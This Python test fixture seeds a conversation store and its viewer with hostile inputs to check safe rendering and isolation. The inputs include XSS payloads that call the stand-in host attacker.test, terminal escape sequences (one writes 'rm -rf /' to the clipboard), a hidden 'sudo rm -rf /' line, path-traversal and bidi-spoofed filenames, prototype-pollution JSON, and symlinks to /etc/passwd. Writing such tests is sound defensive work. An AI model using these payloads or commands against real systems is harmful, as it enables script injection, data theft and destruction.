"""What an attacker writes: outputs, names, messages."""

import hashlib
import json
import os

# The conversation of the one who looks, and that of another, of which a server with `--only` tells nothing.
OWN, OTHER = "own-work", "others-4471"
MARKER = "MARKER-OF-THE-OTHER"
AWAY = "http://attacker.test"

# Each would set `pwned`, or ask another server, if anything of it was more than text.
PAYLOADS = {
    "script": f'<script>window.pwned=1;fetch("{AWAY}/a")</script>',
    "image": f'<img src="{AWAY}/b" onerror="window.pwned=2">',
    "svg": '<svg onload="window.pwned=3"><a xlink:href="javascript:window.pwned=4"><text>x</text></a></svg>',
    "frame": '<iframe srcdoc="<script>parent.pwned=5</script>"></iframe><object data="javascript:window.pwned=6"></object>',
    "ended": '"></pre></code></textarea></title></style></script><script>window.pwned=7</script>',
    "double": '" onmouseover="window.pwned=8" autofocus onfocus="window.pwned=9" x="',
    "single": "' onclick='window.pwned=10' tabindex=1 onfocus='window.pwned=11' x='",
    "link": "javascript:window.pwned=12",
    "markdown": f"[here](javascript:window.pwned=13) ![x]({AWAY}/c.png) <javascript:window.pwned=14> {AWAY}/d",
    "moved": f'<meta http-equiv="refresh" content="0;url={AWAY}/e"><base href="{AWAY}/"><link rel=stylesheet href="{AWAY}/f">',
    "form": f'<form action="{AWAY}/g"><button autofocus>Continue</button></form>',
    "entities": "&lt;script&gt;window.pwned=15&lt;/script&gt; &#x3c;img src=x onerror=window.pwned=16&#x3e;",
    "template": '{{constructor.constructor("window.pwned=17")()}} ${window.pwned=18} <%= window.pwned=19 %>',
    "comment": "<!--><script>window.pwned=20</script>--> <![CDATA[<script>window.pwned=21</script>]]>",
    "old": "+ADw-script+AD4-window.pwned=22+ADw-/script+AD4- \u00bcscript\u00bewindow.pwned=23\u00bc/script\u00be",
    "style": f'<style>@import "{AWAY}/h";</style><p style="background:url({AWAY}/i)">x</p>',
}
BIDI = [*range(0x202A, 0x202F), *range(0x2066, 0x206A), 0x200E, 0x200F, 0x061C]
BIDI_TEXT = "".join(f"before{chr(code)}after " for code in BIDI)
ANSI = {
    "title": "\x1b]0;window.pwned\x07 \x1b]2;owned\x1b\\",
    "link": "\x1b]8;;javascript:window.pwned=30\x1b\\click here\x1b]8;;\x1b\\",
    "away": f"\x1b]8;;{AWAY}/j\x1b\\click there\x1b]8;;\x1b\\",
    "coloured": "\x1b[31m<script>window.pwned=31</script>\x1b[0m",
    "inside": '\x1b[38;5;1"><script>window.pwned=32</script>m and \x1b[<img src=x onerror=window.pwned=33>m',
    "clipboard": "\x1b]52;c;cm0gLXJmIC8=\x07",
    "eight bits": "\x9b31mred\x9b0m \x9d0;title\x9c",
    "device": "\x1bP+q544e\x1b\\ \x1b_private\x1b\\ \x1b^message\x1b\\ \x05",
}
# These move what is on the screen, or never end.
MOVING = {
    "far": "\x1b[999999999;999999999Hfar\x1b[1;1H",
    "many": "\x1b[1000000X\x1b[1000000b\x1b[1000000@\x1b[1000000L",
    "unfinished": "\x1b]0;never ended " + "x" * 5000,
}
HIDDEN = "sudo rm -rf / # hidden by what follows"
OVERWRITTEN = f"{HIDDEN}\x1b[2K\rall is well\n\x1b[8mconcealed words\x1b[0m\n"
TAGS = 1_000_000
# Names of files in a mount: no slash, at most 255 bytes.
NAMES = {kind: payload.replace("/", "%2F")[:120] + ".txt" for kind, payload in PAYLOADS.items()} | {
    "bidi": "invoice\u202etxt.exe",
    "quotes": "a\"b'c`d&e.txt",
    "query": "x?y=1&z#L1.txt",
    "percent": "%2e%2e%2f%00%.txt",
    "spaces": "  two  spaces .txt",
    "long": "n" * 240 + ".txt",
    "zero width": "a\u200bb\u2060c.txt",
    "backslash": "a\\..\\..\\etc\\passwd",
    "template": "{{7*7}}${8*8}.txt",
    "space of a line": "a\u2028b\u2029c.txt",
}
# Names that only who writes in the store itself can give.
PLANTED = [b"escape\x1b[31m\x1b]0;owned\x07.txt", b"line\nfeed.txt", b"no\xffutf8\xfe.txt", b"bell\x07\x08\x7f.txt"]
CONVERSATIONS = ["<img src=x onerror=window.pwned=40>", "a\"b'c&d", "\u202egnp.conversation", "{{7*7}}", "%2e%2e"]


def fill(store):
    """Fills a store with all of it."""
    store.say(OTHER, {"role": "user", "content": f"{MARKER} in a message"})
    store.put(OTHER, "secret", f"{MARKER} in an output\n" * 3000, tool=f"tool-{MARKER}", exit_code=1)
    said(store)
    for kind, payload in PAYLOADS.items():
        store.put(OWN, f"p-{kind}", f"{payload}\n" * 200, tool=payload, server=payload[:60], args=payload, exit_code=1)
    outputs = {
        "bidi": BIDI_TEXT + "\n",
        "ansi": "\n".join(ANSI.values()) + "\n",
        "moving": "\n".join(MOVING.values()) + "\n",
        "everything": "\n".join([*PAYLOADS.values()] * 10) + "\n",
        "overwritten": OVERWRITTEN,
        "tags-one-line": "<b>" * TAGS,
        "tags-many-lines": "<b><i onclick=window.pwned=41>\n" * TAGS,
        "deep": "[" * 100_000 + "]" * 100_000,
        "hostile-json": hostile_json(),
        "nul": b"a\x00<script>window.pwned=42</script>\xff\n",
    }
    for name, content in outputs.items():
        store.put(OWN, name, content)
    with store.mounted() as mount:
        named(mount)
    planted(store)
    return None


def said(store):
    """Messages of every role, hostile in each of their members."""
    for role in ("system", "user", "assistant", "tool"):
        store.say(OWN, *({"role": role, "content": payload, "name": payload, "tool_call_id": payload, "id": payload}
                         for payload in PAYLOADS.values()))
    call = lambda payload: {"id": payload, "function": {"name": payload, "arguments": payload}}
    store.say(
        OWN,
        {"role": "assistant", "content": BIDI_TEXT, "tool_calls": [call(one) for one in PAYLOADS.values()]},
        {
            "role": "user",
            "content": [
                {"type": "text", "text": PAYLOADS["script"]},
                {"type": "image_url", "image_url": {"url": f"{AWAY}/k.png"}},
                {"type": PAYLOADS["image"], PAYLOADS["script"]: PAYLOADS["script"]},
            ],
        },
        {"role": "tool", "content": PAYLOADS["script"], "fullOutputPath": "javascript:window.pwned=43"},
        {"role": "tool", "content": "x", "fullOutputPath": f"/ctx/{OTHER}/artifacts/tool/secret.txt"},
        {"role": "assistant", "content": {"__proto__": {"pwned": 1}, "constructor": "x"}, "__proto__": {"pwned": 2}},
    )


def hostile_json():
    members = {f"{kind}<b>": payload for kind, payload in PAYLOADS.items()} | {
        payload: 1 for payload in PAYLOADS.values()
    }
    members |= {"__proto__": {"pwned": 44}, "constructor": {"prototype": {"pwned": 45}}, "\u202ebidi": BIDI_TEXT, "": 0}
    return json.dumps(members)


def named(mount):
    for kind, name in NAMES.items():
        (mount / OWN / "artifacts/tool" / name).write_text(
            f"a file with a name of the kind {kind}\n{PAYLOADS['script']}\n"
        )
    page = f"<html><body>{PAYLOADS['script']}</body></html>"
    files = {
        "page.html": page,
        "picture.svg": f'<svg xmlns="http://www.w3.org/2000/svg">{page}</svg>',
        "code.js": "window.pwned=46",
        "both.gif": f"GIF89a/*{page}*/=1;window.pwned=47",
        "page.xhtml": page,
        "page.pdf": f"%PDF-1.7 {page}",
    }
    for name, content in files.items():
        (mount / OWN / "artifacts/tool" / name).write_text(content)
    for name in CONVERSATIONS:
        (mount / name).mkdir()
        (mount / name / "artifacts/tool/x.txt").write_text(PAYLOADS["script"])


def planted(store):
    """Files, links and directories that nobody wrote through ctxfs."""
    tool = os.fsencode(store.path / "context" / OWN / "artifacts/tool")
    for name in PLANTED:
        with open(os.path.join(tool, name), "wb") as file:
            file.write(b"planted <script>window.pwned=48</script>\n")
    os.symlink("/etc/passwd", os.path.join(tool, b"passwd.txt"))
    os.symlink(
        os.fsencode(store.path / "context" / OTHER / "artifacts/tool/secret.txt"), os.path.join(tool, b"linked.txt")
    )
    os.mkfifo(os.path.join(tool, b"pipe.txt"))


def digest(store):
    """Returns the state of each file of a store: name, size, time, content. What says that a server runs is none of it."""
    states = {}
    for directory, _, names in os.walk(os.fsencode(store.path)):
        for name in names:
            path = os.path.join(directory, name)
            if os.path.isfile(path) and not os.path.islink(path) and os.fsencode(store.path / "web") not in path:
                with open(path, "rb") as file:
                    content = hashlib.file_digest(file, "sha256").hexdigest()
                states[path] = (os.stat(path).st_size, os.stat(path).st_mtime_ns, content)
    return states
